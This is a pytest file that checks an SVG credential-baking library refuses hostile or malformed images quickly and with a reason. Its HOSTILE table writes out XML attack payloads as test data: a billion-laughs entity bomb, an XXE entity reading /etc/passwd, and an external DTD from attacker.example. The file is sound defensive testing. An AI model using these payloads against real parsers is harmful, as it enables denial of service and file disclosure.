"""Damaged and hostile SVGs: always a sentence, and always soon."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.wallet_export.pictures import JSON_CREDENTIAL, JWT, SVG
from tests.work import work_of_at_most
from wallet_export.errors import ImageRefused, NotAnImage, NothingBaked
from wallet_export.svg import bake_svg, unbake_svg
from wallet_export.svg_sanitizer import sanitize_svg

START = b'<svg xmlns="http://www.w3.org/2000/svg">'
LAUGHS = b"<!DOCTYPE svg [" + b'<!ENTITY a0 "ha">' + b"".join(
    b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 12)
) + b"]>" + START + b"<text>&a11;</text></svg>"  # fmt: skip

HOSTILE = {
    "billion laughs": (LAUGHS, "definitions inside"),
    "local file as entity": (
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + START + b"&x;</svg>", "definitions inside",
    ),
    "entity of an outer DTD": (
        b'<!DOCTYPE svg SYSTEM "http://attacker.example/x.dtd">' + START + b"&x;</svg>", "entities of its own",
    ),
    "undefined entity": (START + b"&nbsp;</svg>", "undefined entity at line 1, column 41"),
    "nesting": (START + b"<g>" * 300_000, "more than 200 deep"),
    "elements": (START + b"<g/>" * 300_000 + b"</svg>", "more than 50,000 elements"),
    "size": (START + b" " * 11_000_000, "10,485,760"),
    "utf-16": (b"\xff\xfe" + SVG.decode().encode("utf-16-le"), "UTF-16"),
    "utf-16 without mark": (SVG.decode().encode("utf-16-be"), "UTF-16"),
    "latin-1": (b'<?xml version="1.0" encoding="ISO-8859-1"?>' + START + b"</svg>", "'ISO-8859-1'"),
    "undeclared latin-1": (START + b"\xe9</svg>", r"not UTF-8 \(byte 40\)"),
    "gzip": (b"\x1f\x8b\x08\x00abc", "compressed"),
    "two roots": (SVG + SVG, "junk after document element"),
    "unbound prefix": (START + b"<a:b/></svg>", "unbound prefix"),
    "unclosed": (START + b"<g>", "no element found"),
    "nul": (START + b"\x00</svg>", "not well-formed"),
}  # fmt: skip


@pytest.mark.parametrize("act", [unbake_svg, lambda svg: bake_svg(svg, JWT), sanitize_svg])
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_soon_and_with_a_reason(name: str, act: Callable[[bytes], object]) -> None:
    svg, said = HOSTILE[name]
    with work_of_at_most(12), pytest.raises(ImageRefused, match=said):
        act(svg)


def test_an_svg_cut_off_at_any_byte_is_refused() -> None:
    baked = bake_svg(SVG, JSON_CREDENTIAL)
    for length in range(len(baked)):
        with pytest.raises(ImageRefused, match=r"\.$"):
            unbake_svg(baked[:length])


@pytest.mark.parametrize("filling", [b"\n", b"x", b"&#65;", b"<!---->", b"]", b"<?x?>"])
def test_ten_mebibytes_of_anything_are_read_in_bounded_time(filling: bytes) -> None:
    body = filling * (10_000_000 // len(filling))
    with work_of_at_most(20), pytest.raises((NothingBaked, ImageRefused)):
        unbake_svg(START + body + b"</svg>")


def test_a_badge_text_without_end_is_refused_in_bounded_time() -> None:
    inside = b'<c:credential xmlns:c="https://purl.imsglobal.org/ob/v3p0">' + b"{\n" * 4_900_000 + b"</c:credential>"
    with work_of_at_most(20), pytest.raises(ImageRefused, match="longer than"):
        unbake_svg(START + inside + b"</svg>")


@pytest.mark.parametrize(
    ("svg", "said"),
    [
        (b"<html><svg/></html>", "root element is <html>"),
        (b"<svg/>", "SVG namespace"),
        (b'<svg xmlns="urn:other"><g/></svg>', "SVG namespace"),
        (b'<x:image xmlns:x="http://www.w3.org/2000/svg"/>', "root element is <image>"),
    ],
)
def test_xml_that_is_no_svg_is_no_image(svg: bytes, said: str) -> None:
    with pytest.raises(NotAnImage, match=said):
        bake_svg(svg, JWT)
